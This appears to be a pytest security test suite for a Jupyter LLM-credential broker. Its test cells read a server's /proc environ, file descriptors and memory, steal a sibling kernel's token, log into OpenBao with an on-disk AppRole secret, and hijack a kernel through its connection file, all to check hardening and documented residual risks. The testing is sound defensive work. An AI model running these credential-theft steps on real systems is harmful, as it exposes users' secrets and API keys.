"""Tier 2: code in the kernel goes after processes, files and tokens instead of the REST API.

Attack cells save what they read ("loot") to a file so the kernel's redaction cannot hide it.
"""
from __future__ import annotations

import json
import os

import pytest

_PROC = r'''
import glob, json, os
from jupyter_core.paths import jupyter_runtime_dir
srv = json.load(open(sorted(glob.glob(os.path.join(jupyter_runtime_dir(), "jpserver-*.json")))[-1]))
SPID = srv["pid"]
loot, denied = {}, []
def grab(name, fn):
    try:
        loot[name] = fn()
    except (PermissionError, ProcessLookupError) as e:
        denied.append(name)
    except OSError as e:
        loot[name] = "ERR " + type(e).__name__
def rd(p, n=None):
    with open(p, "rb") as f:
        return f.read(n).decode("utf-8", "replace") if n else f.read().decode("utf-8", "replace")
for part in ("environ", "cmdline", "maps", "status", "stat", "limits", "cwd", "mountinfo"):
    grab(part, lambda p=part: rd(f"/proc/{SPID}/{p}"))
grab("exe", lambda: os.readlink(f"/proc/{SPID}/exe"))
grab("cwd", lambda: os.listdir(f"/proc/{SPID}/cwd"))
grab("root", lambda: os.listdir(f"/proc/{SPID}/root/"))
for t in os.listdir(f"/proc/{SPID}/task"):
    grab(f"task{t}.environ", lambda t=t: rd(f"/proc/{SPID}/task/{t}/environ"))
def fds():
    out = {}
    for fd in os.listdir(f"/proc/{SPID}/fd"):
        try:
            out[fd] = os.readlink(f"/proc/{SPID}/fd/{fd}")
            if out[fd].startswith(("pipe:", "socket:", "anon_inode:")):
                continue  # a read would block (the server's pipes from its kernels' stdout/stderr)
            out[fd + ".data"] = rd(f"/proc/{SPID}/fd/{fd}", 1 << 20)
        except OSError as e:
            out[fd] = type(e).__name__
    return out
grab("fds", fds)
def mem():
    chunks = []
    with open(f"/proc/{SPID}/maps") as m, open(f"/proc/{SPID}/mem", "rb") as f:
        for line in m:
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" in line.split()[1] and b - a < (64 << 20):
                try:
                    f.seek(a); chunks.append(f.read(b - a).decode("latin-1"))
                except OSError:
                    pass
    return "".join(chunks)
if not SKIP_MEM:
    grab("mem", mem)
# every other process of this user: environ + cmdline (other kernels, the server's children)
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) in (os.getpid(), SPID):
        continue
    grab(f"{pid}.environ", lambda p=pid: rd(f"/proc/{p}/environ"))
# inherited: our env, a forked child's env, a subprocess's env
import subprocess, sys
loot["self.environ"] = rd("/proc/self/environ") + json.dumps(dict(os.environ))
loot["subprocess.env"] = subprocess.run(["env"], capture_output=True, text=True).stdout
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.write(w, json.dumps(dict(os.environ)).encode()[:60000]); os._exit(0)
os.close(w); loot["fork.env"] = os.read(r, 65536).decode(); os.waitpid(pid, 0)
# connection files of every kernel, and the server's runtime files
for p in glob.glob(os.path.join(jupyter_runtime_dir(), "*")):
    grab("runtime:" + os.path.basename(p), lambda p=p: rd(p) if os.path.isfile(p) else "")
json.dump({"loot": loot, "denied": denied}, open(LOOTFILE, "w"))
print(json.dumps({"denied": denied, "mem": len(loot.get("mem", ""))}))
'''


def test_server_process_memory_env_and_fds_are_closed_to_the_kernel(stack, kernel, tmp_path, rt):
    lootfile = tmp_path / "proc.json"
    as_root = os.geteuid() == 0
    # As root the kernel has CAP_SYS_PTRACE and reads any memory (outside tier 2, which is one
    # unprivileged uid): there only environ/fds/fork/runtime files are checked here; the
    # unprivileged run with and without PR_SET_DUMPABLE is tests/server/test_unprivileged.py.
    _, msgs = rt.run_py(kernel, f"LOOTFILE = {str(lootfile)!r}\nSKIP_MEM = {as_root}\n" + _PROC, timeout=240)
    info = rt.last_json(msgs)
    data = json.loads(lootfile.read_text())
    if not as_root:  # the hardening (PR_SET_DUMPABLE=0) is what refuses these
        for part in ("environ", "maps", "fds", "mem"):
            assert part in info["denied"], f"/proc/<server>/{part} was readable from the kernel"
    else:
        assert "environ" in data["loot"], "as root the server environ is readable: the check below must see it"
    blob = json.dumps(data)
    rt.assert_no_secret(blob, stack.provider_key, "/proc, fork/subprocess env and runtime files")
    # nor the server's Vault credential (AppRole secret id) through the process table
    secret_id = open(stack.secret_id_path).read().strip()
    rt.assert_no_secret(blob.replace(stack.secret_id_path, ""), secret_id, "/proc of other processes")


def test_kernel_env_holds_no_vault_or_provider_credentials(stack, kernel, rt, tmp_path):
    """The kernel's launch env is sanitized: no VAULT_*, no provider-shaped value, only our two variables."""
    lootfile = tmp_path / "env.json"
    _, msgs = rt.run_py(kernel, "import os, json\n"
                                f"json.dump(dict(os.environ), open({str(lootfile)!r}, 'w')); print('{{}}')")
    env = json.loads(lootfile.read_text())
    assert "JUPYTER_SECURELLM_KERNEL_TOKEN" in env and "JUPYTER_SECURELLM_URL" in env
    assert not [k for k in env if k.startswith(("VAULT_", "BAO_"))]
    rt.assert_no_secret(json.dumps(env), stack.provider_key, "kernel env")


_FIND_TOKEN = r'''
import os, json, urllib.request, urllib.error
mine = os.environ.get("JUPYTER_SECURELLM_KERNEL_TOKEN")
stolen = None
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        if ONLY.encode() not in open(f"/proc/{pid}/cmdline", "rb").read():
            continue  # kernels of this test's server only (other servers on this machine are not ours)
        env = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
    except OSError:
        continue
    for kv in env:
        if kv.startswith(b"JUPYTER_SECURELLM_KERNEL_TOKEN=") and len(kv) > 31:
            stolen = kv.split(b"=", 1)[1].decode()
def use(tok):
    r = urllib.request.Request(os.environ["JUPYTER_SECURELLM_URL"] + "/models", headers={"X-SecureLLM-Token": tok})
    try:
        return urllib.request.urlopen(r, timeout=30).status
    except urllib.error.HTTPError as e:
        return e.code
'''


def test_stolen_kernel_token_dies_with_its_kernel(stack, kernel, rt):
    """Kernel B reads kernel A's capability token from /proc/<A>/environ (same uid; A never loaded
    the extension, so nothing wiped it) and uses it. It works while A runs (documented: tokens are
    per kernel, not a sandbox between one user's kernels) and must be refused once A is shut down."""
    a = kernel
    b = kernel.make_another()
    _, msgs = rt.run_py(b, f"ONLY = {str(stack.workdir)!r}\n" + _FIND_TOKEN + "print(json.dumps([stolen is not None, use(stolen) if stolen else None]))")
    found, status_alive = rt.last_json(msgs)
    assert found and status_alive == 200
    a.shutdown()
    _, msgs = rt.run_py(b, "print(json.dumps([use(stolen), use(mine)]))")
    status_dead, own = rt.last_json(msgs)
    assert own == 200
    assert status_dead == 401, "a dead kernel's token still works"


def test_loaded_extension_wipes_its_token_from_proc_environ(stack, kernel, rt):
    """After `%load_ext`, the token (and every removed secret) is blanked in the initial environment
    block too, so another kernel cannot read it from /proc/<pid>/environ (kernel/envguard.py)."""
    a = kernel
    b = kernel.make_another()
    rt.run_py(b, "import os; os.environ.pop('JUPYTER_SECURELLM_KERNEL_TOKEN')")  # B's own entry is not the loot
    _, msgs = rt.run_py(a, "%load_ext jupyter_securellm\nimport json; "
                           "print(json.dumps([e for e in open('/proc/self/environ','rb').read().split(b'\\0') "
                           "if e.startswith(b'JUPYTER_SECURELLM_KERNEL_TOKEN=') and len(e) > 31] != []))")
    assert rt.last_json(msgs) is False, "the token is still in A's own /proc/self/environ"
    _, msgs2 = rt.run_py(b, f"ONLY = {str(stack.workdir)!r}\n" + _FIND_TOKEN.replace("stolen = kv", "stolen = pid; kv") +
                         "print(json.dumps(stolen and open(f'/proc/{stolen}/cmdline').read()))")
    found = rt.last_json(msgs2)
    assert not found, f"{found}: kernel A's token is still readable in /proc/<A>/environ after %load_ext"
    # A still works (the token lives in memory)
    _, msgs3 = rt.run_py(a, "%llm models")
    assert "demo" in a.text(msgs3)


def test_server_log_holds_no_key_after_the_attacks(stack, kernel, rt):
    """Run a leaking call and failing calls, then read the server's log file (it is on disk, readable)."""
    code = r'''
import json, os, urllib.request, urllib.error
for c in ("[[provider:leak_key]]", "[[provider:500]]", "[[provider:leak_key]] [[provider:chars=3]]"):
    for stream in (False, True):
        b = {"model": "demo", "stream": stream, "messages": [{"role": "user", "content": c}]}
        r = urllib.request.Request(os.environ["JUPYTER_SECURELLM_URL"] + "/chat/completions", data=json.dumps(b).encode(),
                                   headers={"X-SecureLLM-Token": os.environ["JUPYTER_SECURELLM_KERNEL_TOKEN"],
                                            "Content-Type": "application/json"})
        try:
            urllib.request.urlopen(r, timeout=60).read()
        except urllib.error.HTTPError as e:
            e.read()
print("{}")
'''
    rt.run_py(kernel, code, timeout=180)
    logs = "".join(p.read_text(errors="replace") for p in stack.workdir.glob("*.log"))
    assert "jupyter-securellm" in logs or "SecureLLM" in logs  # it is the server's log
    rt.assert_no_secret(logs.replace(stack.workdir.name, ""), stack.provider_key, "server/OpenBao log files")


def test_residual_vault_credentials_on_disk_let_the_kernel_read_the_key(stack, kernel, tmp_path, rt):
    """Documented residual risk (tier 2, same uid): the broker's AppRole secret id is a file the kernel
    can read, and the role id is in the server's config file. With both, the kernel logs in to OpenBao
    itself. This test proves the risk is real (so docs/security.md stays honest); tier 3 or a
    response-wrapped, single-use secret id closes it."""
    lootfile = tmp_path / "vault.json"
    code = r'''
import glob, json, os, re, urllib.request
from jupyter_core.paths import jupyter_runtime_dir
srv = json.load(open(sorted(glob.glob(os.path.join(jupyter_runtime_dir(), "jpserver-*.json")))[-1]))
cmd = open(f"/proc/{srv['pid']}/cmdline", "rb").read().split(b"\0")
cfg = [c.decode().split("=", 1)[1] for c in cmd if c.startswith(b"--config=")][0]
src = open(cfg).read()
url = re.search(r"""vault_url = ['"]([^'"]+)['"]""", src).group(1)
role = re.search(r"""vault_approle_role_id = ['"]([^'"]+)['"]""", src).group(1)
sid = open(re.search(r"""vault_approle_secret_id_path = ['"]([^'"]+)['"]""", src).group(1)).read().strip()
def post(u, b, h={}):
    return json.load(urllib.request.urlopen(urllib.request.Request(u, data=json.dumps(b).encode(), headers=h), timeout=20))
tok = post(url + "/v1/auth/approle/login", {"role_id": role, "secret_id": sid})["auth"]["client_token"]
r = urllib.request.Request(url + "/v1/secret/data/llm/openai", headers={"X-Vault-Token": tok})
json.dump(json.load(urllib.request.urlopen(r, timeout=20)), open(LOOTFILE, "w"))
print("{}")
'''
    rt.run_py(kernel, f"LOOTFILE = {str(lootfile)!r}\n" + code, timeout=60)
    leaked = lootfile.exists() and bool(rt.find_leaks(lootfile.read_text(), stack.provider_key))
    assert leaked, "the residual risk is gone: update docs/security.md (and this test)"


def test_residual_kernel_b_runs_code_in_kernel_a_through_its_connection_file(stack, kernel, rt, tmp_path):
    """Documented residual (tier 2, same uid): kernels of one user are not isolated. Kernel B reads
    A's connection file from the runtime dir, executes code in A and gets A's in-memory token even
    after `%load_ext` wiped it from A's environment. Tokens still die with their kernel. This test
    proves the risk is real so docs/security.md stays honest."""
    a = kernel
    b = kernel.make_another()
    rt.run_py(a, "%load_ext jupyter_securellm")
    loot = tmp_path / "hijack.json"
    code = f'''
import glob, json, os
from jupyter_core.paths import jupyter_runtime_dir
from jupyter_client import BlockingKernelClient
got = None
for cf in glob.glob(os.path.join(jupyter_runtime_dir(), "kernel-*.json")):
    if {a.kernel_id!r} not in cf:
        continue
    kc = BlockingKernelClient(); kc.load_connection_file(cf); kc.start_channels()
    kc.wait_for_ready(timeout=30)
    r = kc.execute_interactive("from jupyter_securellm.kernel import client as _c; "
                               "open({str(loot)!r}, 'w').write(_c._KERNEL_TOKEN or '')", timeout=30)
    got = r["content"]["status"]; kc.stop_channels()
print(json.dumps(got))
'''
    _, msgs = rt.run_py(b, code, timeout=90)
    assert rt.last_json(msgs) == "ok"
    assert len(loot.read_text()) > 20, "the residual risk is gone: update docs/security.md (and this test)"
